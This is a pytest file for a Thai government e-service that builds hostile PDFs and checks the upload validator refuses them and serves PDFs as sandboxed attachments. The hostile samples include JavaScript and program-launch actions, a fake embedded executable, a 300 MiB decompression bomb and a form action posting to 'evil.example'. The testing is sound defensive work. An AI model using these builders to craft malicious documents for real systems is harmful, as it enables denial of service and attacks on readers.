"""Hostile PDFs (issue #17 item 7; A-X2, PR-4, A-F6): active content and
decompression bombs are refused on upload, and no PDF is ever shown inline.

The PDFs are built here with pypdf (the bomb's stream with zlib: 300 MiB of
zeros, about 1.3 MB on disk) and uploaded through the real app's document page
as a signed-in applicant, the way a browser does; officers fetch files through
the real officer route.  A document whose definition says
``allow_active_content: true`` takes the JavaScript PDF.
"""
from __future__ import annotations

import datetime as dt
import functools
import io
import random
import re
import shutil
import zlib
from pathlib import Path

import pytest
import yaml
from argon2 import PasswordHasher
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, StreamObject, TextStringObject
from starlette.testclient import TestClient

from eservice.applications import Applications, declaration_of
from eservice.auth import Accounts
from eservice.clock import BANGKOK, FixedClock
from eservice.documents import MAX_PDF_INFLATED, UploadError, check_upload
from eservice.engine import EngineContext
from eservice.policy import Actor
from eservice.spec.models import Document
from eservice.web.app import create_app
from eservice.web.context import Settings

TESTS = Path(__file__).resolve().parent.parent
FIXTURES = TESTS / "fixtures" / "defs"
SAMPLES = TESTS.parent / "service_definitions" / "nonthaburi-city" / "samples"
MONDAY_MORNING = dt.datetime(2026, 6, 15, 10, 0, tzinfo=BANGKOK)
PASSWORD = "Sapphire-Mango-42!"
MIB = 1024 * 1024


# --------------------------------------------------------------------------- hostile PDFs
def _pdf(change=None, pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if change is not None:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    action.update({NameObject(f"/{k}"): TextStringObject(v) for k, v in entries.items()})
    return action


def _open_action(action: DictionaryObject):
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = action
    return change


def _attachment(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")


def _attachment_annotation(writer: PdfWriter) -> None:
    writer.add_annotation(0, DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
        NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(40), FloatObject(40)])}))


def _page_action(writer: PdfWriter) -> None:  # runs when the page is opened
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="app.alert(1)")})


def _javascript_link(writer: PdfWriter) -> None:
    writer.add_annotation(0, DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(200), FloatObject(40)]),
        NameObject("/A"): _action("/URI", URI=" JavaScript:app.alert(1)")}))


def _web_link(writer: PdfWriter) -> None:  # an ordinary link: not active content
    writer.add_annotation(0, DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(200), FloatObject(40)]),
        NameObject("/A"): _action("/URI", URI="https://www.nonthaburi.go.th/")}))


@functools.cache
def _zeros_deflated(size: int) -> bytes:
    """``size`` zero bytes through zlib (level 1: quick to make, about 1/230 of the size)."""
    packer, chunk = zlib.compressobj(1), bytes(16 * MIB)
    parts = [packer.compress(chunk) for _ in range(size // len(chunk))]
    return b"".join(parts) + packer.compress(bytes(size % len(chunk))) + packer.flush()


def _flate_contents(size: int):
    """Each page's content stream: ``size`` bytes once inflated."""
    def change(writer: PdfWriter) -> None:
        for page in writer.pages:
            stream = StreamObject()
            stream.set_data(_zeros_deflated(size))  # the raw, still compressed bytes
            stream[NameObject("/Filter")] = NameObject("/FlateDecode")
            page.replace_contents(stream)
    return change


@functools.cache
def js_pdf() -> bytes:
    return _pdf(_open_action(_action("/JavaScript", JS="app.alert('pwned')")))


@functools.cache
def bomb_pdf() -> bytes:
    return _pdf(_flate_contents(300 * MIB))  # the finding: inflates to 300 MiB


HOSTILE = {  # upload name: (bytes, status, Thai and English words the refusal must use)
    "javascript.pdf": (js_pdf, 422, "สคริปต์ (JavaScript)", "scripts (JavaScript)"),
    "launch.pdf": (lambda: _pdf(_open_action(_action("/Launch", F="cmd.exe"))), 422,
                   "คำสั่งเปิดโปรแกรม", "actions that launch programs"),
    "attachment.pdf": (lambda: _pdf(_attachment), 422, "ไฟล์อื่นที่ฝังหรือแนบอยู่", "embedded or attached files"),
    "bomb.pdf": (bomb_pdf, 413, "เมื่อขยายออกมีขนาดเกิน 128 MB", "expands to more than 128 MB"),
}


# --------------------------------------------------------------------------- the site
def _definitions(root: Path) -> Path:
    """The fixture definitions with two documents: an ordinary one, and one that
    allows active content (an agency's own fillable form)."""
    defs = root / "defs"
    shutil.copytree(FIXTURES, defs)
    path = defs / "test-agency" / "minimal.yaml"
    service = yaml.safe_load(path.read_text(encoding="utf-8"))
    service["documents"] = [
        {"id": "floor_plan", "title": {"th": "แผนผังร้าน", "en": "Floor plan"}, "formats": ["pdf", "png"],
         "required": False},
        {"id": "fillable_form", "title": {"th": "แบบฟอร์มกรอกได้", "en": "Fillable form"}, "formats": ["pdf"],
         "required": False, "allow_active_content": True},
    ]
    path.write_text(yaml.safe_dump(service, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return defs


class Site:
    """The real app, an applicant signed in with a draft, and an officer."""

    def __init__(self, tmp_path: Path):
        clock = FixedClock(MONDAY_MORNING.astimezone(dt.timezone.utc))
        self.app = create_app(Settings(data=tmp_path / "data", definitions=(_definitions(tmp_path),)), clock=clock)
        ctx = self.app.state.ctx
        self.engine = ctx.extra["engine"] = EngineContext(catalogue=ctx.catalogue, store=ctx.store,
                                                          files=ctx.files, clock=clock)
        self.accounts = ctx.extra["accounts"] = Accounts(  # cheap hashing; /login uses this one
            ctx.store, clock, hasher=PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1))
        self.apps = Applications(self.engine)
        citizen = self.user("citizen@example.com")
        self.actor = Actor(user_id=citizen["id"], name="สมชาย ใจดี", ip="203.0.113.9", user_agent="pytest")
        record = self.apps.start("minimal-permit", self.actor)
        record, errors = self.apps.save_page(record["id"], self.actor, "shop",
                                             {"shop_name": "ร้านป้าแดง", "shop_area": 120, "has_kitchen": False})
        assert errors == []
        self.app_id = record["id"]
        self.client = self.sign_in(TestClient(self.app), citizen)

    def user(self, email: str, *grants: tuple[str, str]) -> dict:
        user, token = self.accounts.register(email, PASSWORD, {"first_name": "ทดสอบ", "last_name": "ระบบ"})
        user = self.accounts.verify_email(token)
        for agency, role in grants:
            user = self.accounts.grant_role(user["id"], agency, role)
        return user

    def sign_in(self, client: TestClient, user: dict) -> TestClient:
        page = client.get("/login")
        response = client.post("/login", data={"csrf_token": _csrf(page.text), "email": user["email"],
                                               "password": PASSWORD}, follow_redirects=False)
        assert response.status_code == 303, response.text[:500]
        return client

    def upload(self, document: str, filename: str, content: bytes, media_type: str = "application/pdf"):
        """A multipart upload with the CSRF token first, as the documents page sends it."""
        url = f"/applications/{self.app_id}/documents"
        fields = [("csrf_token", (None, _csrf(self.client.get(url).text))), ("action", (None, "upload")),
                  ("document", (None, document)), ("file", (filename, content, media_type))]
        return self.client.post(url, files=fields, follow_redirects=False)

    def record(self) -> dict:
        return self.engine.store.get_application(self.app_id)


def _csrf(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, "no CSRF field on the page"
    return found.group(1)


@pytest.fixture
def site(tmp_path) -> Site:
    return Site(tmp_path)


# --------------------------------------------------------------------------- refused on upload
@pytest.mark.parametrize("filename", list(HOSTILE))
def test_hostile_pdf_is_refused_with_a_message_and_loses_nothing(site, filename):  # R: A-X2, PR-4, A-F6
    build, status, thai, english = HOSTILE[filename]
    sample = (SAMPLES / "food_shop_floor_plan_sample.pdf").read_bytes()
    assert site.upload("floor_plan", "แผนผัง.pdf", sample).status_code == 303
    before = site.record()

    response = site.upload("floor_plan", filename, build())
    assert response.status_code == status, response.text[:2000]
    assert thai in response.text and filename in response.text  # names the file and says what is wrong
    assert "สั่งพิมพ์เอกสารเป็น PDF ใหม่" in response.text  # and what to do
    after = site.record()
    assert after["documents"] == before["documents"] and after["answers"] == before["answers"]

    site.client.cookies.set("lang", "en")
    english_page = site.upload("floor_plan", filename, build())
    assert english_page.status_code == status
    assert english in english_page.text and "print it to PDF again" in english_page.text
    assert site.record()["documents"] == before["documents"]


@pytest.mark.parametrize("change, found", [
    pytest.param(_page_action, "javascript", id="page-open-action"),
    pytest.param(_javascript_link, "javascript", id="javascript-link"),
    pytest.param(_attachment_annotation, "embedded_file", id="file-attachment-annotation"),
    pytest.param(_open_action(_action("/SubmitForm", F="https://evil.example/collect")), "form_action",
                 id="submit-form"),
])
def test_other_active_content_is_refused_by_the_upload_check(change, found):  # R: A-X2
    document = Document(id="evidence", title={"th": "หลักฐาน", "en": "Evidence"}, formats=("pdf",))
    with pytest.raises(UploadError) as refused:
        check_upload(_pdf(change), "evidence.pdf", document)
    assert refused.value.code == "active_content" and refused.value.details["found"] == [found]


def test_javascript_inside_a_compressed_object_stream_is_found():  # R: A-X2
    """pypdf does not write object streams; pyhanko's writer does."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.writer import PdfFileWriter

    writer = PdfFileWriter(stream_xrefs=True)
    writer.insert_page(generic.DictionaryObject({
        generic.pdf_name("/Type"): generic.pdf_name("/Page"),
        generic.pdf_name("/Resources"): generic.DictionaryObject(),
        generic.pdf_name("/MediaBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842)))}))
    action = generic.DictionaryObject({generic.pdf_name("/S"): generic.pdf_name("/JavaScript"),
                                       generic.pdf_name("/JS"): generic.pdf_string("app.alert(1)")})
    writer.root["/OpenAction"] = writer.add_object(action, obj_stream=writer.prepare_object_stream())
    out = io.BytesIO()
    writer.write(out)
    assert b"/ObjStm" in out.getvalue() and b"/JavaScript" not in out.getvalue()  # only compressed
    document = Document(id="evidence", title={"th": "หลักฐาน", "en": "Evidence"}, formats=("pdf",))
    with pytest.raises(UploadError) as refused:
        check_upload(out.getvalue(), "evidence.pdf", document)
    assert refused.value.details["found"] == ["javascript"]


def test_many_streams_together_over_the_budget_are_refused():  # R: A-X2
    per_page = 48 * MIB  # each under the budget, three together over it
    assert per_page < MAX_PDF_INFLATED < 3 * per_page
    document = Document(id="scan", title={"th": "สแกน", "en": "Scan"}, formats=("pdf",))
    with pytest.raises(UploadError) as refused:
        check_upload(_pdf(_flate_contents(per_page), pages=3), "scan.pdf", document)
    assert refused.value.code == "content_too_large" and refused.value.status == 413


def test_the_budget_counts_what_streams_expand_by_not_what_they_store(monkeypatch):  # R: PR-4, A-X2
    import eservice.documents as documents

    monkeypatch.setattr(documents, "MAX_PDF_INFLATED", MIB)  # a small budget, so small files show it
    document = Document(id="scan", title={"th": "สแกน", "en": "Scan"}, formats=("pdf",))

    def photo(writer: PdfWriter) -> None:  # 2 MiB of JPEG data is stored as it is shown: no expansion
        stream = StreamObject()
        stream.set_data(random.Random(17).randbytes(2 * MIB))
        stream[NameObject("/Filter")] = NameObject("/DCTDecode")
        writer.pages[0].replace_contents(stream)

    assert check_upload(_pdf(photo), "photo.pdf", document).pages == 1
    with pytest.raises(UploadError) as refused:
        check_upload(_pdf(_flate_contents(2 * MIB)), "zeros.pdf", document)
    assert refused.value.code == "content_too_large"


# --------------------------------------------------------------------------- still accepted
def test_ordinary_pdfs_are_still_accepted(site):  # R: PR-4, A-F4
    for sample in sorted(SAMPLES.glob("*.pdf")):
        response = site.upload("floor_plan", sample.name, sample.read_bytes())
        assert response.status_code == 303, (sample.name, response.text[:2000])
        assert site.record()["documents"]["floor_plan"][0]["filename"] == sample.name
    assert site.upload("floor_plan", "ลิงก์.pdf", _pdf(_web_link)).status_code == 303  # a web link is fine
    assert site.upload("floor_plan", "สแกน.pdf", _pdf(_flate_contents(8 * MIB), pages=3)).status_code == 303


def test_a_document_that_allows_active_content_takes_the_javascript_pdf(site):  # R: A-SP3, PR-4
    assert site.upload("floor_plan", "form.pdf", js_pdf()).status_code == 422
    response = site.upload("fillable_form", "form.pdf", js_pdf())
    assert response.status_code == 303, response.text[:2000]
    assert site.record()["documents"]["fillable_form"][0]["filename"] == "form.pdf"
    response = site.upload("fillable_form", "bomb.pdf", bomb_pdf())  # the budget holds all the same
    assert response.status_code == 413 and "fillable_form" in site.record()["documents"]


# --------------------------------------------------------------------------- served as attachments
def test_pdfs_are_served_as_attachments_and_images_sandboxed(site):  # R: A-X2, A-R2
    from PIL import Image

    png = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(png, format="PNG")
    assert site.upload("fillable_form", "form.pdf", js_pdf()).status_code == 303  # allowed, still never inline
    assert site.upload("floor_plan", "plan.png", png.getvalue(), "image/png").status_code == 303
    record = site.record()
    pdf_sha = record["documents"]["fillable_form"][0]["sha256"]
    png_sha = record["documents"]["floor_plan"][0]["sha256"]

    own = site.client.get(f"/applications/{site.app_id}/files/{pdf_sha}")  # the applicant's copy
    assert own.status_code == 200 and own.content == js_pdf()
    assert own.headers["content-disposition"].startswith("attachment")
    assert own.headers["x-content-type-options"] == "nosniff"
    assert own.headers["content-security-policy"].startswith("sandbox")

    service = site.engine.catalogue.latest("minimal-permit")
    site.apps.submit(site.app_id, site.actor, declaration_shown=declaration_of(service), intent_confirmed=True)
    officer = site.sign_in(TestClient(site.app), site.user("reviewer@example.com", ("test-agency", "reviewer")))
    page = officer.get(f"/officer/applications/{site.app_id}")
    assert page.status_code == 200
    assert "<iframe" not in page.text and f"/files/{pdf_sha}?download=1" in page.text
    assert "ไฟล์ PDF ไม่แสดงในหน้านี้" in page.text  # and why, in Thai and English
    assert f'src="/officer/applications/{site.app_id}/files/{png_sha}"' in page.text  # the image is still shown
    assert "PDF files are not shown in this page" in officer.get(f"/officer/applications/{site.app_id}?lang=en").text

    served = officer.get(f"/officer/applications/{site.app_id}/files/{pdf_sha}")  # even without ?download=1
    assert served.status_code == 200 and served.headers["content-type"] == "application/pdf"
    assert served.headers["content-disposition"].startswith("attachment")
    assert served.headers["x-content-type-options"] == "nosniff"
    assert served.headers["content-security-policy"].startswith("sandbox")
    image = officer.get(f"/officer/applications/{site.app_id}/files/{png_sha}")
    assert image.headers["content-disposition"].startswith("inline")  # a checked image stays previewable
    assert image.headers["content-security-policy"].startswith("sandbox")
    assert image.headers["x-content-type-options"] == "nosniff"
